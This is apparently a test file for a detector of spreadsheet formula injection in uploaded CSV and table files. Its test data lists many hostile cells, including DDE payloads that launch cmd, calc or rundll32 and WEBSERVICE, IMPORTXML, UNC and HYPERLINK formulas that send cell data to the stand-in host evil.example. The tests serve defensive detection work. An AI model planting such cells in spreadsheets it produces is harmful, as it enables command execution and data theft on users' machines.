import { Random } from '../../../../kit/random';
import { startsFromCell } from '../../../src/leads/inspect/formulas/table';
import { fetchesFromCell } from '../../../src/leads/inspect/formulas/table-formulas';

const orders = [
  ...["=2+5+cmd|' /C calc'!A0", "=10*cmd|'/c calc'!A0", "-2+3+cmd|' /C calc'!D2", '"=2+5+cmd|\' /C calc\'!A0"'],
  ...["=1+cmd|'/c calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|'/c calc'!A0", "=cmd|'/c calc'!A0", "=$cmd|'x'!A0"],
  ...["=IF(1,cmd|'/c calc'!A0)", "=IF(1;cmd|'/c calc'!A0)", '=IF(1;cmd|notepad!A0)', '"=1+\r\ncmd|notepad!A0"'],
  ...[
    '"=1+\r\ncmd |\r\nnotepad!A0"',
    "=    C    m D   |        '/        c       c  al  c  '   !   A",
    '=MSEXCEL|Book!R1C1',
  ],
  ...["  =cmd|'/c calc'!A0", "\t=cmd|'/c calc'!A0", '\u00a0=cmd|notepad!A0', "'=cmd|notepad!A0", '＝cmd|notepad!A0'],
  ...[
    '=AAAA+BBBB-CCCC&"Hello"/12345&cmd|\'/c calc.exe\'!A',
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    '=1+é|notepad!A0',
  ],
  ...[
    "=cmd|'/c echo it''s | more'!A0",
    "=cmd|notepad!'A0'",
    "=x.exe|'..\\..\\cmd'!_",
    "+thespanishinquisition(cmd|'/c x'!A",
  ],
  ...['"=""a""&cmd|notepad!A0"', '=cmd|C:\\x.exe!A0', '=cmd | notepad ! A0', "=('cmd'|'/c calc'!A0)"],
];

const around: Record<string, (cell: string) => string> = {
  alone: (cell) => cell,
  'among commas': (cell) => `name,${cell},1\n`,
  'among semicolons': (cell) => `name;${cell};1\n`,
  'among tabs': (cell) => `name\t${cell}\t1\n`,
  'behind a sign of its own': (cell) => `sep=^\r\nname^${cell}^1\n`,
  'in a later line': (cell) => `a|b,c\r\n- item,5" wide,"x"\r\n${cell}`,
  'behind a mark': (cell) => `\ufeff${cell}`,
};

describe.each(Object.entries(around))('a table that starts a program is found by a cell %s', (_, put) => {
  test.each(orders)('with %j', (cell) => {
    const text = put(cell);
    expect(startsFromCell(Buffer.from(text))).toBe(true);
    const isLatin = !/[＝\ufeff]/.test(text);
    if (isLatin) expect(startsFromCell(Buffer.from(text, 'latin1'))).toBe(true);
    for (const mark of ['', '\ufeff']) {
      const wide = Buffer.from(`${mark}${text.replace('\ufeff', '')}`, 'utf16le');
      if (!mark && !/^\ufeff?[ -~]/.test(text)) continue;
      expect(startsFromCell(wide)).toBe(true);
      expect(startsFromCell(wide.swap16())).toBe(true);
    }
  });
});

const fetching = [
  ...['=WEBSERVICE("http://evil.example/?"&A2)', '=IMAGE("http://evil.example/x")', '=DDE("cmd";"/c calc";"x")'],
  ...[
    '=CALL("kernel32","WinExec","JFJ",0)',
    '=RTD("x",,"y")',
    '@webservice("x")',
    '＝WEBSERVICE("x")',
    '-1+ DDE ("x")',
  ],
  ...["='\\\\evil.example\\s\\[a.xls]S'!A1", "='file:///x/y'#$a.A1", '=IF(1,WEBSERVICE("x"),2)', '+IF(1;IMAGE("x"))'],
  ...['"=1+\r\nWEBSERVICE(""x"")"', '"  =IF(""a"",WEBSERVICE(""x""))"', ' =WEBSERVICE("x")', '""=WEBSERVICE("x")'],
  ...['=WEBDIENST("http://evil.example/")', '=SERVICEWEB("x")', '=WEBDIENST (A1)', '=WENN(1;WEBDIENST("x"))'],
  ...['=IMPORTTEXT("http://evil.example/")', '=IMPORTCSV("x")', '=IMPORTDATA("x")', '=IMPORTXML("x","//a")'],
  ...['=INDIRECT("\'ht"&"tp://evil.example/a.xls\'#$a.A1")', '=_xlfn.WEBSERVICE("x")', '=SUM(A1,ДАННЫЕ("x"))'],
  ...['-WEBDIENST("x")', '+WEBDIENST(A1)', '@WEBDIENST(A:A)', '- WEBDIENST (A1)', '-1+INDIRECT("a"&"b")', '=Ａ（1）'],
  ...['-UNBEKANNT(ZEICHEN(104)&ZEICHEN(116))', '-1*UNBEKANNT("x")', '-5,=UNBEKANNT("x")', '-(1,=UNBEKANNT (A1)'],
  ...['=HYPERLINK("\\\\evil.example\\s";"CV")', '"=HYPERLINK(""c:\\windows\\system32\\calc.exe"")"', '=HYPERLINK(A1)'],
  ...['=HYPERLINK("file://evil.example/x")', '-1+HYPERLINK("fi"&"le://evil.example/x")', '=HYPERLINK("ms-msdt:/id")'],
  ...['=[http://evil.example/a.xls]S!A1', '=com.microsoft.webservice("x")', '=ENCODEURL(INFO("x"))', '=CELL("x",A1)'],
  ...['=MAP("http://evil.example/"&A1,WEBSERVICE)', '=BYROW(A1:A3,WEBDIENST)', '+HYPERLINK ("file://evil.example/x")'],
];

describe.each(Object.entries(around))('a table that fetches something is found by a cell %s', (_, put) => {
  test.each(fetching)('with %j', (cell) => {
    expect(fetchesFromCell(Buffer.from(put(cell)))).toBe(true);
    expect(fetchesFromCell(Buffer.from(`\ufeff${put(cell).replace('\ufeff', '')}`, 'utf16le'))).toBe(true);
  });
});

test.each([
  'name,note\nRahim,Call (+880) 1711\n-5,3\nKarim,image (png)',
  '"-5","3"\n"Call (+880) 1711","x"',
  '- ready,\'quoted\'\n=SUM(A1:A2),=HYPERLINK("https://example.com/")',
  'WEBSERVICE(x),py (3)',
  '- Managed (a team of) five,-5,+880 1712 345678\n=====,@handle,@rahim (dev)',
  '"- Built API(s) for 5 banks\n- Python(advanced), Java (3 years)"',
  '- Python(advanced),-Java(basic)\n-5,Python(3 years),Salary(BDT)\n- Project(s): 5',
  '=SUM(A1:A2)*IF(AND(B1>2,C1),ROUND(AVERAGE(D1:D9),1),0)\n=LEFT(A1,2)&CONCATENATE(B1,"-",C1)\n=(A1+B1)*2',
  '"=HYPERLINK(""https://example.com/"",""My site"")"',
  '=HYPERLINK("mailto:a@example.com"),=HYPERLINK("https://example.com/?"&A1),=XLOOKUP(A1,B:B,C:C)\n=BINOM.DIST(1,2,3,0)',
])('a table that only speaks of it is taken: %j', (text) => {
  expect(fetchesFromCell(Buffer.from(text))).toBe(false);
});

const harmless = [
  ...['name|phone|mail\nRahim|+8801711000000|r@example.com\nKarim|-5|great!', 'a|b\nc|d!e', '+880 1711|+880 1811!'],
  ...['| Skill | Level |\n|-------|:-----:|\n| C++ | very good! |\n| - | = |', '|a|b|\n|-|-|\n|=1|!x|'],
  ...['- Skills | Great!\n- Languages | Bangla, English!', '- Node.js | very good! Also C#', '=SUM(A1:A2),-1|2'],
  ...['=IF(A1="a|b",1,2)', '=A1&" | "&B1', "='My sheet'!A1", '=Sheet2!B3,x|y', '=[Book.xlsx]Sheet!A1', '-1|2!3'],
  ...['=HYPERLINK("https://example.com/?a|b")', '@name | writes code!\n@other | reads it!', "it's | 'quoted' | not!"],
  ...['"Hello, world!"|"- a"|"+1"', "x|'a'|'b'|'c!'", 'true || false != null', 'if (a|b) { x = !c }', '1|2|3!4', ''],
  ...['=5-3|4!2', 'বাংলা | ইংরেজি!\n- কাজ | ভালো!', 'time|text\n12:01|Hi! Are you there?', '"line one\n- two | three!"'],
];

test.each(harmless)('an honest table is taken: %j', (text) => {
  expect(startsFromCell(Buffer.from(text))).toBe(false);
  expect(startsFromCell(Buffer.from(`\ufeff${text}`, 'utf16le'))).toBe(false);
  expect(fetchesFromCell(Buffer.from(text))).toBe(false);
});

const words = [
  '- ',
  '+880',
  '=',
  '@',
  'Rahim',
  'C++',
  ' | ',
  '|',
  '!',
  '! ',
  ' ',
  '5',
  ',',
  ';',
  '\t',
  '\n',
  '"',
  "it's",
  'ক',
];

test('of 20,000 honest lines of such words, none that asks nothing of a program is refused', () => {
  const random = new Random(20261122);
  const texts = Array.from({ length: 20_000 }, () => Array.from({ length: 24 }, () => random.pick(words)).join(''));
  const refused = texts.filter((text) => startsFromCell(Buffer.from(text)));
  const asking = /[\p{L}\p{M}][\p{L}\p{M}\p{N}.']*\s*\|\s*(?:'|[^\s|!'",;]+\s*!\s*[\p{L}\p{M}\d'"])/u;
  expect(refused.filter((text) => !asking.test(text))).toEqual([]);
  expect(refused.length).toBeLessThan(texts.length / 20);
});
